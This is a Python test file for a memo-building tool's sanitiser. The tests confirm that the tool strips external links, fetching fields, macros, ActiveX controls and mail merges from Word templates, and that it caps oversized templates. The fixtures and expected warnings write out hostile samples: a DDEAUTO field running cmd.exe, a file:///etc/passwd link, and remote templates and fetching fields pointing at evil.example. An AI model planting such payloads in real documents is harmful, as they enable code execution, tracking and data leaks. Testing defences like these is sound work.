"""A template's reference.docx holds nothing that reaches outside the memo (issue 29): its
outside links, fetching fields and macros are taken out of what brief copies, each with
a warning, and `brief templates check` reports each; and what it holds is counted against
budgets before it is read."""

from __future__ import annotations

import email
import email.policy
import io
import re
import zipfile
from pathlib import Path

import docx
import pytest

import attacks
from brief.errors import Where
from brief.templates.links import clean, field_problem, kept_link
from drafts import DISTRIBUTION

HINT = ("    hint: remove it from reference.docx in Word or LibreOffice: a memo's Word file "
        "fetches and opens nothing outside itself (docs/house-style.md, \"What reference.docx "
        "may not hold\")")
_REACHES = ", which reaches outside the memo: brief leaves it out of the memos it builds"
TAKEN_OUT = [
    "reference.docx holds macros (word/vbaProject.bin): brief never copies them into a memo",
    "reference.docx's word/document.xml has a subdocument at http://evil.example/sub.docx"
    + _REACHES,
    "reference.docx's word/header1.xml has a link to file:///etc/passwd" + _REACHES,
    "reference.docx's word/header1.xml has a linked picture at http://evil.example/logo.png"
    + _REACHES,
    "reference.docx's word/header1.xml has a linked picture at "
    "http://evil.example/linked.png" + _REACHES,
    "reference.docx's word/settings.xml has an attached template at "
    "http://evil.example/evil.dotm" + _REACHES,
    "reference.docx's word/styles.xml has a linked picture at http://evil.example/styles"
    + _REACHES,
    "reference.docx's word/webSettings.xml has an external frame showing "
    "http://evil.example/frame.html" + _REACHES,
    "reference.docx's word/footer1.xml has a field { DDEAUTO c:\\\\windows\\\\system32\\\\"
    "cmd.exe \"/k calc.exe\" }" + _REACHES,
    "reference.docx's word/footer1.xml has a field { HYPERLINK \"\\\\evil.example\\share\\"
    "x.docx\" }" + _REACHES,
    "reference.docx's word/header1.xml has a field { INCLUDEPICTURE "
    "\"http://evil.example/pixel.png\" \\d }" + _REACHES,
    "reference.docx's word/header1.xml has a field { INCLUDETEXT "
    "\"http://evil.example/text.docx\" }" + _REACHES,
]


def said(stderr: str, file: str, severity: str) -> list[str]:
    """The messages about `file` of that severity, in order."""
    prefix = f"{file}: {severity}: "
    return [line[len(prefix):] for line in stderr.splitlines() if line.startswith(prefix)]


def assert_reaches_nothing_outside(package_bytes: bytes) -> None:
    """No part and no relationship of the Word file names any outside target, a file, a
    share or macros; the one outside relationship left is the house's website."""
    with zipfile.ZipFile(io.BytesIO(package_bytes)) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    for name, content in parts.items():
        for target in (*attacks.OUTSIDE_TARGETS, "file:", "\\\\", "evil"):
            assert target.encode() not in content, (name, target)
    outside = [rel for content in parts.values()
               for rel in re.findall(rb"<Relationship [^>]*>", content) if b"External" in rel]
    assert len(outside) == 1 and attacks.HOUSE_SITE.encode() in outside[0], outside
    assert b"macroEnabled" not in parts["[Content_Types].xml"]
    assert b"vbaProject" not in parts["[Content_Types].xml"]


@pytest.mark.slow
@pytest.mark.e2e
def test_outside_links_of_a_template_never_reach_the_memo_or_its_email(project):
    spec = attacks.template_outside_links(project.root)
    spec.write_text(spec.read_text(encoding="utf-8") + "distribution:\n  from: "
                    f"{DISTRIBUTION['from']}\n  to: [aide@example.org]\n", encoding="utf-8")
    result = project.run("build", "--email", spec)
    assert result.exit_code == 0, result.stderr
    assert said(result.stderr, "templates/outside/reference.docx", "warning") == TAKEN_OUT
    assert result.stderr.count(HINT) == len(TAKEN_OUT) - 1  # each, but the macros'
    built = (project.output / "memo.docx").read_bytes()
    assert_reaches_nothing_outside(built)
    message = email.message_from_bytes((project.output / "memo.eml").read_bytes(),
                                       policy=email.policy.default)
    attached = [part.get_content() for part in message.iter_attachments()
                if part.get_filename() == "memo.docx"]
    assert attached == [built]
    # The house's header and footer keep their text; the website, its link.
    document = docx.Document(io.BytesIO(built))
    header = "".join(p.text for p in document.sections[0].header.paragraphs)
    assert "Passwords" in header and "picture" not in header and "included" not in header
    footer = document.sections[0].footer
    assert [link.address for p in footer.paragraphs for link in p.hyperlinks] == \
        [attacks.HOUSE_SITE]


@pytest.mark.slow
@pytest.mark.e2e
def test_templates_check_reports_each_outside_link(project):
    attacks.template_outside_links(project.root)
    result = project.run("templates", "check", "outside")
    assert result.exit_code == 1
    assert said(result.stderr, "templates/outside/reference.docx", "error") == TAKEN_OUT


@pytest.mark.slow
@pytest.mark.e2e
def test_a_word_file_with_outside_links_makes_a_template_without_them(project):
    attacks.template_outside_links(project.root)
    word_file = project.root / "letterhead.docx"
    (project.root / "templates" / "outside" / "reference.docx").rename(word_file)
    result = project.run("templates", "new", "house", "--from-word", word_file)
    assert result.exit_code == 0, result.stderr
    assert said(result.stderr, "letterhead.docx", "warning") == TAKEN_OUT
    made = project.root / "templates" / "house" / "reference.docx"
    assert_reaches_nothing_outside(made.read_bytes())
    checked = project.run("templates", "check", "house")  # nothing left to report
    assert checked.exit_code == 0, checked.stderr


@pytest.mark.parametrize(("target", "kept"), [
    ("https://house.example/", True), ("http://house.example/contact", True),
    ("mailto:press@house.example", True), ("HTTPS://HOUSE.EXAMPLE", True),
    ("file:///etc/passwd", False), ("\\\\server\\share\\a.docx", False),
    ("//server/share/a.docx", False), ("other.docx", False), ("javascript:alert(1)", False),
    ("ftp://house.example/a", False), ("https://house.example/a b", False),
    ("ms-word:ofe|u|https://house.example/a.docx", False), ("", False)])
def test_which_link_targets_are_kept(target, kept):
    assert kept_link(target) is kept


@pytest.mark.parametrize(("instruction", "problem"), [
    (" PAGE ", None), ("DATE \\@ \"d MMMM yyyy\"", None),
    ("HYPERLINK \"https://house.example/\"", None), ("HYPERLINK \\l \"section-2\"", None),
    ("HYPERLINK \\o \"file:///tip\" \"https://house.example/\"", None),
    ("includepicture \"logo.png\"", "a field { includepicture \"logo.png\" }"),
    (" LINK Excel.Sheet.8 \"C:\\\\a.xls\" ", "a field { LINK Excel.Sheet.8 \"C:\\\\a.xls\" }"),
    ("DDE excel \"x\"", "a field { DDE excel \"x\" }"),
    ("IMPORT \\\\server\\a.png", "a field { IMPORT \\\\server\\a.png }"),
    ("HYPERLINK \"file:///etc/passwd\"", "a field { HYPERLINK \"file:///etc/passwd\" }"),
    ("HYPERLINK \u201cfile:///x\u201d", "a field { HYPERLINK \u201cfile:///x\u201d }")])
def test_which_fields_reach_outside(instruction, problem):
    assert field_problem(instruction) == problem


# --- what reference.docx may hold ---------------------------------------------------------

@pytest.mark.e2e
@pytest.mark.parametrize(("make", "message"), [
    (attacks.template_numbering_bomb,
     "templates/lists/reference.docx: error: reference.docx's word/numbering.xml holds "
     "400,000 numbering definitions (w:abstractNum and w:num), more than the 10,000 brief "
     "reads in a template"),
    (attacks.template_styles_bomb,
     "templates/styles/reference.docx: error: reference.docx's word/styles.xml holds 100,180 "
     "styles, more than the 10,000 brief reads in a template")])
def test_a_template_holding_too_much_is_one_message(project, make, message):
    spec = make(project.root)
    result = project.run("build", spec)
    assert result.exit_code == 1
    errors = [line for line in result.stderr.splitlines() if ": error: " in line]
    assert errors == [message]
    assert "allow more with BRIEF_MAX_TEMPLATE_" in result.stderr
    assert not project.output.exists()


@pytest.mark.e2e
def test_a_template_budget_is_raised_by_its_variable(project, monkeypatch):
    spec = attacks.template_styles_bomb(project.root, count=300)
    monkeypatch.setenv("BRIEF_MAX_TEMPLATE_STYLES", "400")
    result = project.run("check", spec)
    assert result.exit_code == 1
    assert "reference.docx's word/styles.xml holds 480 styles, more than the 400 brief " \
        "reads in a template" in result.stderr
    assert "allow more with BRIEF_MAX_TEMPLATE_STYLES=480" in result.stderr
    monkeypatch.setenv("BRIEF_MAX_TEMPLATE_STYLES", "480")
    assert project.run("check", spec).exit_code == 0


@pytest.mark.e2e
def test_the_elements_of_a_template_are_counted_in_every_part(project, monkeypatch):
    spec = attacks.template_spec(project.root, "house", attacks.memo_reference_parts())
    monkeypatch.setenv("BRIEF_MAX_TEMPLATE_ELEMENTS", "5000")
    result = project.run("check", spec)
    assert result.exit_code == 1
    assert re.search(r"templates/house/reference.docx: error: reference.docx holds 9,\d{3} XML "
                     r"elements \(\d,\d{3} of them in word/styles.xml\), more than the 5,000 "
                     "brief reads in a template", result.stderr), result.stderr
    monkeypatch.setenv("BRIEF_MAX_TEMPLATE_ELEMENTS", "a lot")
    result = project.run("check", spec)
    assert result.exit_code == 1
    assert "BRIEF_MAX_TEMPLATE_ELEMENTS must be a whole number above 0 such as 10000000, " \
        "not 'a lot'" in result.stderr


@pytest.mark.slow
@pytest.mark.e2e
def test_a_house_of_many_lists_under_the_budget_builds(project):
    """4,900 lists (9,800 numbering definitions, under the budget): python-docx looked for
    a free list number quadratically; a build numbers its lists as before, after them."""
    spec = attacks.template_numbering_bomb(project.root, count=4_900)
    text = spec.read_text(encoding="utf-8").replace("kind: risks", "kind: recommendations")
    spec.write_text(text, encoding="utf-8")
    result = project.run("build", spec)
    assert result.exit_code == 0, result.stderr
    with zipfile.ZipFile(project.output / "memo.docx") as package:
        numbering = package.read("word/numbering.xml")
    assert b'<w:num w:numId="4901">' in numbering


def test_a_clean_reference_docx_is_left_as_it_is(tmp_path: Path):
    parts = attacks.memo_reference_parts()
    before = dict(parts)
    assert clean(parts, Where(tmp_path / "reference.docx")) == []
    assert parts == before


def test_a_mail_merge_a_vml_fill_and_a_macro_enabled_template_are_taken_out(tmp_path: Path):
    parts = attacks.memo_reference_parts()
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:zoom ", b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType '
        b'w:val="odbc"/><w:connectString w:val="DSN=evil"/><w:query w:val="SELECT * FROM '
        b'x"/></w:mailMerge><w:zoom ', 1)
    parts["word/header1.xml"] = parts["word/header1.xml"].replace(
        b"</w:hdr>", b'<w:p><w:r><w:pict><v:rect style="width:9pt;height:9pt"><v:fill '
        b'src="http://evil.example/fill.png" type="frame"/></v:rect></w:pict></w:r></w:p>'
        b"</w:hdr>")
    main = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        main, b"application/vnd.ms-word.template.macroEnabledTemplate.main+xml")
    warnings = clean(parts, Where(tmp_path / "reference.docx"))
    assert [w.message for w in warnings] == [
        "reference.docx's word/header1.xml has a picture linked to "
        "http://evil.example/fill.png" + _REACHES,
        "reference.docx's word/settings.xml has a mail merge's data source and query"
        + _REACHES]
    assert b"evil" not in b"".join(parts.values())
    assert main in parts["[Content_Types].xml"]
    assert b'<v:fill type="frame"/>' in parts["word/header1.xml"]


def test_a_relationship_to_a_web_address_not_marked_external_is_taken_out(tmp_path: Path):
    parts = attacks.memo_reference_parts()
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:zoom ", b'<w:attachedTemplate r:id="rIdT"/><w:zoom ', 1)
    parts["word/_rels/settings.xml.rels"] = attacks.relationships_part(
        ("rIdT", "attachedTemplate", "\\\\evil.example\\t.dotm")).replace(
        b' TargetMode="External"', b"")
    warnings = clean(parts, Where(tmp_path / "reference.docx"))
    assert [w.message for w in warnings] == [
        "reference.docx's word/settings.xml has an attached template at "
        "\\\\evil.example\\t.dotm" + _REACHES]
    assert b"attachedTemplate" not in parts["word/settings.xml"]


def with_activex_control(parts: dict[str, bytes]) -> dict[str, bytes]:
    """`parts` with a check box (an ActiveX control, as Word's Developer tab puts one) in
    the footer: its w:object, the relationship to it, its part and its binary data."""
    parts = dict(parts)
    parts["word/footer1.xml"] = parts["word/footer1.xml"].replace(
        b"</w:ftr>", b'<w:p><w:r><w:object w:dxaOrig="225" w:dyaOrig="225"><v:shape '
        b'id="_x0000_i1025" type="#_x0000_t75" style="width:108pt;height:18pt"/><w:control '
        b'r:id="rIdBox" w:name="CheckBox1" w:shapeid="_x0000_i1025"/></w:object></w:r>'
        b"<w:r><w:t>Approved</w:t></w:r></w:p></w:ftr>")
    parts["word/_rels/footer1.xml.rels"] = attacks.relationships_part().replace(
        b"</Relationships>", b'<Relationship Id="rIdBox" Type="http://schemas.openxmlformats'
        b'.org/officeDocument/2006/relationships/control" Target="activeX/activeX1.xml"/>'
        b"</Relationships>")
    parts["word/activeX/activeX1.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="no"?><ax:ocx ax:classid="{8BD21D40'
        b'-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStorage" r:id="rIdBin" '
        b'xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="http://schemas'
        b'.openxmlformats.org/officeDocument/2006/relationships"/>')
    parts["word/activeX/_rels/activeX1.xml.rels"] = attacks.relationships_part().replace(
        b"</Relationships>", b'<Relationship Id="rIdBin" Type="http://schemas.microsoft.com/'
        b'office/2006/relationships/activeXControlBinary" Target="activeX1.bin"/>'
        b"</Relationships>")
    parts["word/activeX/activeX1.bin"] = b"\xd0\xcf\x11\xe0 a control's code and state"
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", b'<Override PartName="/word/activeX/activeX1.xml" ContentType="'
        b'application/vnd.ms-office.activeX+xml"/><Override PartName="/word/activeX/activeX1'
        b'.bin" ContentType="application/vnd.ms-office.activeX"/></Types>')
    return parts


def test_an_activex_control_is_never_copied(tmp_path: Path):
    parts = with_activex_control(attacks.memo_reference_parts())
    warnings = clean(parts, Where(tmp_path / "reference.docx"))
    assert [w.message for w in warnings] == [
        "reference.docx's word/footer1.xml has ActiveX controls (CheckBox1), which run code "
        "of their own: brief never copies them into a memo"]
    assert not [name for name in parts if "activeX" in name]
    assert b"activeX" not in parts["[Content_Types].xml"]
    assert b"control" not in parts["word/_rels/footer1.xml.rels"]
    assert b"w:object" not in parts["word/footer1.xml"]
    assert b"Approved" in parts["word/footer1.xml"]


@pytest.mark.e2e
def test_a_memo_of_a_template_with_an_activex_control_holds_none(project):
    spec = attacks.template_spec(project.root, "boxed",
                                 with_activex_control(attacks.memo_reference_parts()))
    result = project.run("build", spec)
    assert result.exit_code == 0, result.stderr
    assert "warning: reference.docx's word/footer1.xml has ActiveX controls (CheckBox1)" \
        in result.stderr
    with zipfile.ZipFile(project.output / "memo.docx") as package:
        assert not [name for name in package.namelist() if "activeX" in name]
        assert all(b"activeX" not in package.read(name) and b"w:control" not in
                   package.read(name) for name in package.namelist())
    footer = docx.Document(str(project.output / "memo.docx")).sections[0].footer
    assert "Approved" in "".join(p.text for p in footer.paragraphs)
